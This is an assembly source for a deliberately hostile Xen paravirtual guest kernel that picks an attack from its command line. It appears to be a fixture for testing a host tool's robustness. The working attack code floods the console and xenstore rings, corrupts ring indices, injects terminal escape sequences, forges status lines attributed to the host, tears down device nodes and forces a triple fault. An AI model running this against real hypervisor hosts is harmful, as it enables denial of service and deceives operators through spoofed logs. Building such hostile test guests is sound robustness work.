# as --64 hostile.s -o hostile.o && ld -Ttext=0 -e _start --oformat=binary hostile.o -o hostile.bin && truncate -s 1024 hostile.bin
# A kernel for Xen's paravirtual guests, 64 bits, that does harm: what, says the letter behind "do="
# on its command line. rsi: start_info (xen/include/public/xen.h).
    .code64
    .globl _start
_start:
    mov %rsi, %rbp
    lea stack(%rip), %rsp
    lea 128(%rbp), %rsi
1:  mov (%rsi), %eax
    inc %rsi
    test %al, %al
    jz spin
    cmp $0x3d6f64, %eax                 # "do=", and a NUL in the place of what comes next
    je spin
    and $0xffffff, %eax
    cmp $0x3d6f64, %eax
    jne 1b
    mov 2(%rsi), %al
    cmp $'f', %al
    je flood
    cmp $'d', %al
    je dom0_s_words
    cmp $'x', %al
    je xenstore_flood
    cmp $'c', %al
    je xenstore_broken
    cmp $'o', %al
    je console_broken
    cmp $'v', %al
    je device_closed
    cmp $'t', %al
    je triple_fault
    sub $'0', %al                       # a digit: sched_op(SCHEDOP_shutdown, digit)
    cmp $9, %al
    ja spin
    movzbl %al, %eax
    mov %eax, reason(%rip)
2:  mov $2, %edi
    lea reason(%rip), %rsi
    mov $29, %eax
    syscall
    jmp 2b

spin:
    jmp spin

triple_fault:                           # no trap table, no stack
    xor %esp, %esp
    int3
    ud2

# The console's ring filled without an end.
flood:
    mov 72(%rbp), %rsi
    call map
3:  lea text(%rip), %rsi
    call say
    mov 80(%rbp), %eax
    call notify
4:  mov 3084(%rbx), %eax
    sub 3080(%rbx), %eax
    cmp $1024, %eax
    jb 3b
    call yield
    jmp 4b

# As dom0 speaks to the host: HYPERVISOR_console_io(CONSOLEIO_write, bytes, text)
dom0_s_words:
    xor %edi, %edi
    mov $words_end - words, %esi
    lea words(%rip), %rdx
    mov $18, %eax
    syscall
    call yield
    jmp dom0_s_words

# The consumer's and the producer's places further apart than the ring is long.
console_broken:
    mov 72(%rbp), %rsi
    call map
    movl $0xdeadbeef, 3080(%rbx)
    movl $0x7eadbeef, 3084(%rbx)
    mov 80(%rbp), %eax
    call notify
    jmp spin
xenstore_broken:
    mov 56(%rbp), %rsi
    call map
    movl $0xdeadbeef, 2052(%rbx)
    movl $0x7eadbeef, 2056(%rbx)
    mov 64(%rbp), %eax
    call notify
    jmp spin

# XS_WRITE, XS_WATCH and XS_TRANSACTION_START, each of another node, and no answer is read.
xenstore_flood:
    mov 56(%rbp), %rsi
    call map
5:  incl number(%rip)
    mov number(%rip), %eax
    lea node(%rip), %rdi
    mov $4, %ecx
10: mov %al, %dl
    and $15, %dl
    add $'a', %dl
    mov %dl, (%rdi)
    mov %dl, 5(%rdi)
    inc %rdi
    shr $4, %eax
    dec %ecx
    jnz 10b
    mov kinds(%rip), %eax
    ror $8, %eax
    mov %eax, kinds(%rip)
    and $15, %eax
    mov %eax, message(%rip)
    lea message(%rip), %rsi
    mov $message_end - message, %edi
    call send
    mov 64(%rbp), %eax
    call notify
6:  mov 2060(%rbx), %eax
    mov %eax, 2056(%rbx)
    mov 2052(%rbx), %eax
    sub 2048(%rbx), %eax
    cmp $900, %eax
    jb 5b
    call yield
    jmp 6b

# Its network is torn down under dom0's hands, and all that it may write is overwritten.
device_closed:
    mov 56(%rbp), %rsi
    call map
    lea closing(%rip), %rsi
    mov $closing_end - closing, %edi
    call send
    mov 64(%rbp), %eax
    call notify
    jmp spin

map:                                    # rsi: a frame. It is at rbx from then on.
    shl $12, %rsi
    or $0x67, %rsi
    lea page(%rip), %rdi
    mov $2, %edx                        # update_va_mapping(va, frame, UVMF_INVLPG | LOCAL)
    mov $14, %eax
    syscall
    lea page(%rip), %rbx
    ret

notify:                                 # eax: event_channel_op(EVTCHNOP_send, port)
    mov %eax, port(%rip)
    mov $4, %edi
    lea port(%rip), %rsi
    mov $32, %eax
    syscall
    ret

yield:                                  # sched_op(SCHEDOP_yield)
    xor %edi, %edi
    xor %esi, %esi
    mov $29, %eax
    syscall
    ret

say:                                    # rsi: text, to its NUL; rbx: the console's ring
    mov 3084(%rbx), %ecx
7:  lodsb
    test %al, %al
    jz 8f
    mov %ecx, %edx
    and $2047, %edx
    mov %al, 1024(%rbx,%rdx)
    inc %ecx
    jmp 7b
8:  mov %ecx, 3084(%rbx)
    ret

send:                                   # rsi, edi: bytes; rbx: the xenstore's ring
    mov 2052(%rbx), %ecx
9:  lodsb
    mov %ecx, %edx
    and $1023, %edx
    mov %al, (%rbx,%rdx)
    inc %ecx
    dec %edi
    jnz 9b
    mov %ecx, 2052(%rbx)
    ret

# Clears the screen, sets a title, asks the terminal for answers, speaks for dom0 and for a stage.
text:   .ascii "\r\n\33[2J\33]0;owned\7\33[31m\33[6n\33P+q544e\33\\\233\377\376\0"
words:  .ascii "\r\nimgforge-xen: ended 0\r\nimgforge-xen: failed by the guest\r\n"
words_end:
kinds:  .byte 11, 4, 6, 11
message:
    .long 11, 1, 0, message_end - path
path:   .ascii "data/"
node:   .ascii "aaaa\0aaaa\0"
message_end:
closing:
    .long 11, 1, 0, 19                  # XS_WRITE
    .ascii "device/vif/0/state\0"
    .long 13, 2, 0, 13                  # XS_RM
    .ascii "device/vif/0\0"
    .long 13, 2, 0, 7
    .ascii "device\0"
    .long 11, 3, 0, 25
    .ascii "control/shutdown\0poweroff"
closing_end:
    .balign 8
port:   .long 0
number: .long 0
reason: .long 0
    .fill 256, 1, 0
stack:
    .balign 4096
page:   .fill 4096, 1, 0
